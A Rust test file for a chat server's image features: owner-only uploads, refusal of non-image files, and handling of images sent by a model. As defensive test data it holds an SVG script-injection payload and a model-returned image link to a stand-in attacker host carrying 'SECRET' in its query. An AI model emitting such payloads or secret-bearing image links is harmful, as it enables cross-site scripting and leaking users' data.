//! Images: sent with a message, and made by a model.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::client::visitor;
use super::{Stream, TestServer};
use crate::server::provider::fake::{Fake, Framing};
use crate::wire::{ErrorKind, Outcome, Part};

const PNG: &[u8] = include_bytes!("../store/contract/3x2.png");

async fn server(fake: &Fake) -> TestServer {
    let base_url = fake.base_url();
    TestServer::with(&format!(
        "[server]\ndemo = false\n[[providers]]\nname = \"fake\"\nbase_url = \"{base_url}\"\nmodels = [\"m\"]\n"
    ))
    .await
}

async fn upload(server: &TestServer, bytes: &[u8]) -> (u16, Value) {
    let response = server.http.post(server.url("/api/files")).body(bytes.to_vec()).send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap())
}

/// A model server's part: it takes one request and sends these bytes in pieces of a size. Returns what
/// it was asked.
async fn says(fake: &Fake, body: &[u8], piece: usize) -> Value {
    let mut connection = fake.accept().await;
    connection.begin(Framing::Chunked).await;
    for piece in body.chunks(piece) {
        connection.send(piece).await.unwrap();
    }
    let asked = serde_json::from_slice(&connection.body).unwrap();
    connection.end().await;
    asked
}

/// Asks for an image, and has the model send this in pieces of a size.
async fn draw(server: &TestServer, fake: &Fake, body: &str, piece: usize) -> Stream {
    let ask = json!({"message": {"parts": [{"t": "text", "r": "draw"}]}});
    let (stream, _) = tokio::join!(server.chat(&ask), says(fake, body.as_bytes(), piece));
    stream
}

fn event(choice: &Value) -> String {
    format!("data: {}\n\n", json!({"choices": [choice]}))
}

fn data_url(bytes: &[u8]) -> String {
    format!("data:image/png;base64,{}", STANDARD.encode(bytes))
}

const END: &str = "data: {\"choices\":[{\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";

#[tokio::test]
async fn an_upload_is_its_owners_and_nobody_elses() {
    let server = TestServer::start().await;
    let (status, file) = upload(&server, PNG).await;
    assert_eq!((status, &file["w"], &file["h"]), (201, &json!(3), &json!(2)));
    let url = file["url"].as_str().unwrap();
    assert!(url.ends_with("-3x2"), "whoever has the address has the size: {url}");
    let bare = url.strip_suffix("-3x2").unwrap();
    assert_eq!(server.get(bare).await.bytes().await.unwrap(), PNG);
    for wrong in ["-2x3", "-03x2", "-3x2-3x2", "-"] {
        assert_eq!(server.get(&format!("{bare}{wrong}")).await.status(), 404, "{wrong}");
    }
    let response = server.get(url).await;
    assert_eq!(response.headers()["content-type"], "image/png");
    assert!(response.headers()["cache-control"].to_str().unwrap().starts_with("private"));
    assert!(response.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
    assert_eq!(response.bytes().await.unwrap(), PNG);
    let (stranger, _) = visitor(server.addr).await;
    for http in [stranger, reqwest::Client::new()] {
        assert_eq!(http.get(server.url(url)).send().await.unwrap().status(), 404);
    }
    assert_eq!(server.get("/api/files/x").await.status(), 404);
}

#[tokio::test]
async fn what_is_no_image_is_refused() {
    let server = TestServer::start().await;
    for bad in ["", "hello", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "GIF89a"] {
        let (status, error) = upload(&server, bad.as_bytes()).await;
        assert_eq!((status, &error["error"]["kind"]), (400, &json!("bad_request")), "{bad}");
    }
}

#[tokio::test]
async fn a_message_shows_only_images_of_the_one_who_sends_it() {
    let fake = Fake::start().await;
    let server = server(&fake).await;
    let (_, file) = upload(&server, PNG).await;
    let parts = json!([{"t": "text", "r": "what is it?"}, {"t": "image", "r": file["url"]}]);
    let body = json!({"message": {"parts": parts}});
    let (mut stream, asked) = tokio::join!(server.chat(&body), says(&fake, END.as_bytes(), 99));
    stream.end().await;
    assert_eq!(asked["messages"][0]["content"][1]["image_url"]["url"], data_url(PNG));
    let (stranger, _) = visitor(server.addr).await;
    let response = stranger.post(server.url("/api/chat")).json(&body).send().await.unwrap();
    assert_eq!(response.status(), 404);
    for bad in ["https://evil.test/x.png", "/api/files/x", "/favicon.svg"] {
        let body = json!({"message": {"parts": [{"t": "image", "r": bad}]}});
        assert_eq!(server.post(&body).await.status(), 400, "{bad}");
    }
}

#[tokio::test]
async fn q07_an_image_of_many_megabytes_is_there_before_its_event() {
    let fake = Fake::start().await;
    let server = server(&fake).await;
    for (size, piece) in [(1_500_000, 1024), (1_500_000, 16 * 1024), (8_000_000, 16 * 1024)] {
        let mut image = PNG.to_vec();
        image.resize(size, 7);
        let images = json!({"delta": {"images": [{"image_url": {"url": data_url(&image)}}]}});
        let body = [event(&images), END.to_owned()].concat();
        let mut stream = draw(&server, &fake, &body, piece).await;
        stream.until(1).await;
        let Part::Image(shown) = stream.answer.parts()[0].clone() else { panic!() };
        assert_eq!((shown.w, shown.h), (3, 2));
        assert_eq!(server.get(&shown.url).await.bytes().await.unwrap(), image);
        stream.end().await;
    }
}

#[tokio::test]
async fn q08_an_image_that_comes_three_times_is_shown_once() {
    let fake = Fake::start().await;
    let server = server(&fake).await;
    let list = json!([{"type": "image_url", "image_url": {"url": data_url(PNG)}}]);
    let text = json!([{"type": "text", "text": "here"}, list[0]]);
    let body = [
        event(&json!({"delta": {"images": list, "content": text}, "message": {"images": list}})),
        event(&json!({"delta": {"images": list}})),
        END.to_owned(),
    ]
    .concat();
    let mut stream = draw(&server, &fake, &body, 50).await;
    stream.end().await;
    let kinds: Vec<_> = stream.answer.parts().iter().map(|part| part.kind().name()).collect();
    assert_eq!(kinds, ["text", "image"]);
    let mut again = Stream::new(server.get(&format!("/api/chat/{}/events", stream.id())).await);
    again.end().await;
    assert_eq!(again.answer.parts(), stream.answer.parts(), "also from the store");
}

#[tokio::test]
async fn an_image_that_can_not_be_shown_is_an_error_and_a_remote_one_is_not_fetched() {
    let fake = Fake::start().await;
    let server = server(&fake).await;
    let with = |url: &str| {
        [event(&json!({"delta": {"images": [{"image_url": {"url": url}}]}})), END.to_owned()].concat()
    };
    for bad in ["data:image/png;base64,!!!", "data:image/svg+xml;base64,PHN2Zy8+"] {
        let body = with(bad);
        let mut stream = draw(&server, &fake, &body, 50).await;
        let outcome = stream.end().await.outcome;
        assert!(matches!(outcome, Outcome::Error { kind: ErrorKind::Provider, .. }), "{bad}: {outcome:?}");
    }
    let body = with("https://evil.test/?q=SECRET");
    let mut stream = draw(&server, &fake, &body, 50).await;
    assert!(stream.text().await.contains("![](https://evil.test/?q=SECRET)"), "the page names its host");
}
